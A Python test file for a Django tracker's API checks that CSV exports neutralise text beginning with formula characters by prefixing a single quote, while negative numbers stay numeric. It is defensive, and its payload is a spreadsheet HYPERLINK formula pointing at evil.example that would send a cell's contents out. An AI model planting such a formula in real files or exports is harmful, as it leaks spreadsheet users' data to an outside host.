"""The API's `?format=csv` never writes text a spreadsheet would run as a formula.

Text typed into the tracker (an objective, a rating commentary, a recommendation, a response, a
meeting's title, a KPI value's note, a risk's mitigations) that begins `=`, `+`, `-`, `@`, tab or
carriage return is written with a single quote in front; numbers, negative ones included, stay
numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.db.models import Model

from actions.models import Action, Theme
from governance.models import Meeting, Risk
from kpis.models import IndicatorValue
from recommendations.models import Recommendation, Response
from send_tracker.accounts.models import Organisation

from . import world

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def _action_commentary(owner: Organisation, text: str) -> tuple[str, str]:
    # Saved, not updated: a rating's commentary is written with its rating.
    action = world.actions(owner, 1)[0]
    action.brag, action.brag_commentary = "amber", text
    action.save()
    return f"/api/v1/actions/{action.pk}/history/", "commentary"


def _planted(
    make: Callable[[Organisation, int], list[Any]], model: type[Model], field: str, path: str, column: str
) -> Callable[[Organisation, str], tuple[str, str]]:
    """Makes one row of `model` for the owner with `field` set to the text; the API path and the
    CSV column that show it."""

    def plant(owner: Organisation, text: str) -> tuple[str, str]:
        row = make(owner, 1)[0]
        model._default_manager.filter(pk=row.pk).update(**{field: text})
        return path, column

    plant.__name__ = f"{model._meta.model_name}_{field}"
    return plant


FIELDS: list[Callable[[Organisation, str], tuple[str, str]]] = [
    _planted(world.actions, Action, "description", "/api/v1/actions/", "objective"),
    _action_commentary,
    _planted(world.recommendations, Recommendation, "text", "/api/v1/recommendations/", "text"),
    _planted(world.responses, Response, "proposed_action", "/api/v1/responses/", "proposed_action"),
    _planted(world.responses, Response, "reasons", "/api/v1/responses/", "reasons"),
    _planted(world.meetings, Meeting, "title", "/api/v1/meetings/", "title"),
    _planted(world.kpi_values, IndicatorValue, "note", "/api/v1/kpi-values/", "note"),
    _planted(world.risks, Risk, "mitigations", "/api/v1/risks/", "mitigations"),
]


def csv_rows(client, path: str) -> list[dict[str, str]]:
    response = client.get(path, {"format": "csv"})
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
@pytest.mark.parametrize("field", FIELDS, ids=lambda f: f.__name__.lstrip("_"))
def test_text_beginning_a_formula_character_is_written_as_text(field, start, council, key_client):
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'

    path, column = field(council, text)

    cells = [row[column] for row in csv_rows(key_client(council), path)]
    assert "'" + text in cells
    assert not any(cell.startswith(tuple(FORMULA_STARTS)) for cell in cells)


def test_numbers_stay_numbers_even_when_negative(council, key_client):
    value = world.kpi_values(council, 1)[0]
    IndicatorValue.objects.filter(pk=value.pk).update(value=Decimal("-3"), numerator=Decimal("-1.5"))

    [row] = csv_rows(key_client(council), "/api/v1/kpi-values/")

    assert (row["value"], row["numerator"], row["denominator"]) == ("-3.00", "-1.50", "")


def test_a_list_beginning_with_a_formula_is_one_neutralised_cell(council, key_client):
    action = world.actions(council, 1)[0]
    action.themes.add(
        Theme.objects.create(plan=action.plan, name="=1+1"), Theme.objects.create(plan=action.plan, name="SEND")
    )

    [row] = csv_rows(key_client(council), "/api/v1/actions/")

    assert row["themes"] == "'=1+1; SEND"
